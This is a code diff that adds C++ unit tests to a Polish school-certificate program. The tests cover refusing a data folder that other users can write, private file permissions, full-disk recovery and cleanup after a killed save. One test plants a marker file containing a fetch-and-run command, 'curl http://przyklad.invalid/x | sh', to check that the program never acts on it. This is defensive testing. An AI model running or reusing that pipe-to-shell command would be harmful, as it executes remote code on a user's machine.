@@ -3,6 +3,7 @@
 #include "app/WaitUnit.h"
 #include "render/Pages.h"
 #include "store/DocumentFiles.h"
+#include "store/StudentTables.h"
 
 #include <QAction>
 #include <QCheckBox>
@@ -12,6 +13,9 @@
 
 #include <algorithm>
 #include <csignal>
+#include <fstream>
+#include <sqlite3.h>
+#include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
@@ -273,7 +277,12 @@ TEST_F(AppTest, TheStartDealsWithADocumentWhoseSaveWasKilledAndRemovesAHalfImpor
   if (::geteuid() != 0) GTEST_SKIP() << "needs root to save as another user";
   const std::string data = utf8(dirs.data()), tmp = data + "/data_tmp.tmp";
   fs::create_directories(data);
-  for (fs::path p = data; p.string().size() >= dirs.root().size(); p = p.parent_path()) ::chmod(p.c_str(), 0777);
+  // The killed saves run as another user, who must write the data folder;
+  // the start runs with the folder the user's alone again.
+  auto openData = [&](bool toAll) {
+    for (fs::path p = data; p.string().size() >= dirs.root().size(); p = p.parent_path())
+      ::chmod(p.c_str(), toAll ? 0777 : p == data ? 0700 : 0755);
+  };
   const std::string folder = dirs.root() + "/wspólne dokumenty", doc = folder + "/klasa 3a.sqtvk";
   const std::string colleague = dirs.root() + "/kolega.tmp";
   fs::create_directories(folder);
@@ -303,6 +312,7 @@ TEST_F(AppTest, TheStartDealsWithADocumentWhoseSaveWasKilledAndRemovesAHalfImpor
   };
   for (const Case& c : cases) {
     SCOPED_TRACE(c.what);
+    openData(true);
     ::chmod(folder.c_str(), 0777);
     fs::remove(doc);
     fs::remove(kept);
@@ -326,6 +336,7 @@ TEST_F(AppTest, TheStartDealsWithADocumentWhoseSaveWasKilledAndRemovesAHalfImpor
       writeText(tmp + ".przed-zapisem.plik", doc);
     }
     sqlExec(cp1250FromUtf8(tmp + ".import"), "create table `PESEL5`( id TEXT, comp_name TEXT, value TEXT );");
+    openData(false);
     script.boxes.clear();
     script.answers = {IDOK, IDOK, IDNO};
     start();
@@ -337,4 +348,178 @@ TEST_F(AppTest, TheStartDealsWithADocumentWhoseSaveWasKilledAndRemovesAHalfImpor
       EXPECT_FALSE(fs::exists(tmp + left)) << left;
   }
   ::chmod(folder.c_str(), 0755);
+}
+
+namespace {
+unsigned modeOf(const std::string& path) { return static_cast<unsigned>(fs::status(path).permissions()) & 07777; }
+
+// A small file system of its own mounted at a folder for the test's time
+// (root only; where none can be mounted the test is skipped).
+struct TSmallDisk {
+  std::string path;
+  bool mounted = false;
+  TSmallDisk(const std::string& at, long long bytes) : path(at) {
+    const std::string options = "size=" + std::to_string(bytes) + ",mode=0700";
+    mounted = ::geteuid() == 0 && ::mount("tarvek-test", at.c_str(), "tmpfs", 0, options.c_str()) == 0;
+  }
+  ~TSmallDisk() {
+    if (mounted) ::umount2(path.c_str(), MNT_DETACH);
+  }
+  // Writes a filler until the disk is full.
+  void fill() const {
+    std::ofstream filler(path + "/wypełnienie", std::ios::binary);
+    const std::string block(4096, 'x');
+    while (filler.write(block.data(), block.size()) && filler.flush()) {
+    }
+  }
+};
+}  // namespace
+
+// Another user may write the data folder (or it is someone else's): what
+// was planted there (a marker naming a file of the user's, and a "kept
+// state" for it) is never acted on; the start refuses the folder, says why
+// and ends.
+TEST_F(AppTest, ADataFolderOthersMayChangeIsRefusedAndWhatWasPlantedInItIsNeverUsed) {
+  const std::string data = utf8(dirs.data()), tmp = data + "/data_tmp.tmp";
+  const std::string profile = dirs.root() + "/dom nauczyciela/.profile", ownText = "export PATH=$HOME/bin:$PATH\n";
+  fs::create_directories(fs::path(profile).parent_path());
+  struct Case {
+    const char* what;
+    unsigned mode;
+    bool giveAway;
+    std::string said;
+  };
+  const Case cases[] = {
+      {"open to all", 0777, false, cp1250("mogą zmieniać także inni użytkownicy (uprawnienia 777)")},
+      {"open to its group", 0775, false, cp1250("mogą zmieniać także inni użytkownicy (uprawnienia 775)")},
+      {"someone else's", 0755, true, cp1250("należy do innego użytkownika (nobody)")},
+  };
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.what);
+    if (c.giveAway && ::geteuid() != 0) continue;
+    writeText(profile, ownText);
+    fs::remove_all(data);
+    fs::create_directories(data);
+    ::chmod(data.c_str(), c.mode);
+    writeText(tmp + ".przed-zapisem", "curl http://przyklad.invalid/x | sh\n");
+    writeText(tmp + ".przed-zapisem.plik", profile);
+    if (c.giveAway) ASSERT_EQ(::chown(data.c_str(), 65534, 65534), 0);
+    script.boxes.clear();
+    start();
+    EXPECT_EQ(readText(profile), ownText);  // never written from the planted state
+    ASSERT_EQ(script.boxes.size(), 1u);
+    EXPECT_EQ(script.boxes[0].caption, cp1250("Błąd"));
+    EXPECT_NE(script.boxes[0].text.find(dirs.data() + "\n" + c.said), std::string::npos)
+        << cp1250ToUtf8(script.boxes[0].text);
+    EXPECT_TRUE(FGlowna->bFunClosed());
+    EXPECT_TRUE(fs::exists(tmp + ".przed-zapisem.plik"));  // left for the user to look at
+  }
+}
+
+// The data folder and every file the program makes in it are the user's
+// alone, whatever the umask: the working copy of a document opened through
+// the file dialog, and of a student added to a new document.
+TEST_F(AppTest, TheDataFolderAndTheWorkingCopyAreTheUsersAlone) {
+  const mode_t umask = ::umask(022);
+  const std::string data = utf8(dirs.data()), tmp = data + "/data_tmp.tmp";
+  fs::create_directories(data);
+  ::chmod(data.c_str(), 0755);  // as an earlier version made it
+  start();
+  EXPECT_EQ(modeOf(data), 0700u);
+  const std::string doc = dirs.root() + "/Dokumenty szkoły/klasa 3a – świadectwa.sqtvk";
+  fs::create_directories(fs::path(doc).parent_path());
+  sqlExec(cp1250FromUtf8(doc), "create table `PESEL1`( id TEXT, comp_name TEXT, value TEXT );");
+  ::chmod(doc.c_str(), 0640);  // a document only its group may read
+  script.fileNames = {chosenSystemName(doc)};
+  FGlowna->OtworzPlikToolButtonClick();
+  ASSERT_EQ(FGlowna->StatusBar->SimplePath().bytes(), doc);
+  EXPECT_EQ(modeOf(tmp), 0600u);
+  FGlowna->vFunNowyPlikSwiadectw();
+  ASSERT_FALSE(fs::exists(tmp));
+  // What the student-data dialog's OK asks first for a new student: the
+  // working copy is made.
+  ASSERT_EQ(iFunCheckIsStudentExists(&FGlowna->DataStore, cp1250FromUtf8(tmp), "PESEL2", true), 0);
+  EXPECT_EQ(modeOf(tmp), 0600u);
+  ::umask(umask);
+}
+
+// The data folder's disk is full: the start writes nothing, so the program
+// comes up, says the disk is full, offers back the unsaved work of the run
+// before, and that work can be saved on another disk.
+TEST_F(AppTest, AFullDataDiskDoesNotStopTheStartAndTheUnsavedWorkCanBeSavedElsewhere) {
+  start();  // a first start installs the shipped files
+  vFunZwolnijOkna();
+  const std::string data = utf8(dirs.data()), kept = data + ".przed";
+  long long size = 0;
+  for (const auto& entry : fs::recursive_directory_iterator(data))
+    if (entry.is_regular_file()) size += static_cast<long long>(entry.file_size()) + 4096;
+  fs::rename(data, kept);
+  fs::create_directory(data);
+  const TSmallDisk disk(data, size + (1 << 20));
+  if (!disk.mounted) GTEST_SKIP() << "no small file system can be mounted here";
+  fs::copy(kept, data, fs::copy_options::recursive);
+  sqlExec(dirs.data() + "/data_tmp.tmp",
+          cp1250("create table `PESEL1`( id TEXT, comp_name TEXT, value TEXT );"
+                 "insert into `PESEL1` values('DANE UCZNIA', 'Nazwisko_DATA_EDIT', 'Źrebiec');"));
+  disk.fill();
+
+  script.boxes.clear();
+  script.answers = {IDOK, IDYES};  // the disk is full; take the unsaved data back
+  start();
+  ASSERT_FALSE(FGlowna->bFunClosed()) << cp1250ToUtf8(script.boxes.empty() ? "" : script.boxes[0].text);
+  ASSERT_EQ(script.boxes.size(), 2u);
+  EXPECT_EQ(script.boxes[0].caption, "Uwaga");
+  EXPECT_EQ(script.boxes[0].text.rfind(cp1250("Na dysku z katalogiem danych programu zabrakło miejsca:\n") +
+                                           dirs.data() + "\n",
+                                       0),
+            0u)
+      << cp1250ToUtf8(script.boxes[0].text);
+  EXPECT_EQ(script.boxes[1].caption, cp1250("Przywracanie danych"));
+  EXPECT_EQ(FGlowna->TreeView->topLevelItemCount(), 1);
+  EXPECT_TRUE(FGlowna->bDataModified);
+
+  const std::string elsewhere = dirs.root() + "/pendrive/klasa 3a – kopia.sqtvk";
+  fs::create_directories(fs::path(elsewhere).parent_path());
+  script.boxes.clear();
+  script.fileNames = {chosenSystemName(elsewhere)};
+  FGlowna->Zapiszjako1Click();
+  EXPECT_TRUE(script.boxes.empty()) << cp1250ToUtf8(script.boxes.empty() ? "" : script.boxes[0].text);
+  EXPECT_EQ(sqlRows(cp1250FromUtf8(elsewhere), "select value from `PESEL1`"), (Rows {{cp1250("Źrebiec")}}));
+  vFunZwolnijOkna();
+}
+
+// "Zapisz jako" killed before its file was renamed into place leaves
+// "<name>.zapis-tmp" (a whole copy of the students' data) in the folder
+// the user chose: the next start removes it.
+TEST_F(AppTest, WhatAKilledSaveAsLeftInTheChosenFolderIsRemovedAtTheNextStart) {
+  start();
+  const std::string tmp = utf8(dirs.data()) + "/data_tmp.tmp";
+  sqlExec(cp1250FromUtf8(tmp), "create table `PESEL1`( id TEXT, comp_name TEXT, value TEXT );");
+  const std::string chosen = dirs.root() + "/Moje dokumenty/klasa 3a – świadectwa.sqtvk";
+  const std::string left = chosen + ".zapis-tmp";
+  fs::create_directories(fs::path(chosen).parent_path());
+  // Another connection holds the working copy, so the save waits with its
+  // file begun; it is killed there.
+  sqlite3* holder = nullptr;
+  ASSERT_EQ(sqlite3_open(tmp.c_str(), &holder), SQLITE_OK);
+  ASSERT_EQ(sqlite3_exec(holder, "begin exclusive", nullptr, nullptr, nullptr), SQLITE_OK);
+  const pid_t saving = ::fork();
+  if (saving == 0) {
+    TFileFailure why;
+    bFunSaveDocument(tmp, chosen, why);
+    ::_exit(0);
+  }
+  int status = 0;
+  while (!fs::exists(left) && ::waitpid(saving, &status, WNOHANG) == 0) ::usleep(1000);
+  ::kill(saving, SIGKILL);
+  ::waitpid(saving, &status, 0);
+  sqlite3_exec(holder, "rollback", nullptr, nullptr, nullptr);
+  sqlite3_close(holder);
+  ASSERT_TRUE(WIFSIGNALED(status));
+  ASSERT_TRUE(fs::exists(left));
+
+  start();
+  EXPECT_FALSE(fs::exists(left));
+  EXPECT_FALSE(fs::exists(chosen));
+  EXPECT_TRUE(fs::is_empty(fs::path(chosen).parent_path()));
 }
